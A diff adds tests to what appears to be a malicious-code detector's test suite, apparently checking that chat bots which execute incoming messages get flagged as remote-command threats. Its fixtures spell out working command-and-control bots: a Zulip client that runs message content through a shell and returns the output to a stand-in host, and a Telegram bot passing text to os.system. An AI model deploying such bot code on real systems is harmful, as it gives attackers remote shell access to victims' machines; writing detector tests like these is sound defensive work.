@@ -420,3 +420,42 @@ def test_a_transfer_written_by_pycurl_or_a_zeromq_message_run_is_a_threat(
 )
 def test_a_transfer_or_a_message_that_runs_nothing_is_no_threat(source: str) -> None:
     assert not danger(source) & {"CPL-THR-002", "CPL-THR-020"}
+
+
+#: blind15 (tune b15-np-zulip-c2, ZiChatBot of July 2025): a Zulip client's message
+#: callback is a chat bot's handler; its message run as a command is a remote command.
+ZULIP_C2 = (
+    "import subprocess, zulip\n"
+    "client = zulip.Client(email='b@chat.example', api_key='k', site='https://chat.example')\n"
+    "def on(msg):\n"
+    "    out = subprocess.run(msg['content'], shell=True, capture_output=True).stdout\n"
+    "    client.send_message({'type': 'private', 'to': msg['sender_email'], 'content': out})\n"
+    "client.call_on_each_message(on)\n"
+)
+
+
+def test_a_zulip_message_run_as_a_command_is_a_remote_command(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert "CPL-THR-020" in danger(ZULIP_C2)
+    (tmp_path / "mod.py").write_text(ZULIP_C2, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert filtered == whole
+
+
+def test_a_zulip_bot_that_runs_a_fixed_command_is_not_a_threat() -> None:
+    # a deploy bot running its own script when asked: the message picks nothing
+    source = ZULIP_C2.replace("msg['content'], shell=True", "['./deploy.sh'], shell=False")
+    assert "CPL-THR-020" not in danger(source)
+
+
+def test_a_handler_registered_with_a_bot_instance_is_a_handler() -> None:
+    # the same registration through any framework's instance, not a decorator
+    source = (
+        "import os, telebot\n"
+        "bot = telebot.TeleBot('0:token')\n"
+        "def on(msg):\n"
+        "    os.system(msg.text)\n"
+        "bot.register_message_handler(on)\n"
+    )
+    assert "CPL-THR-020" in danger(source)
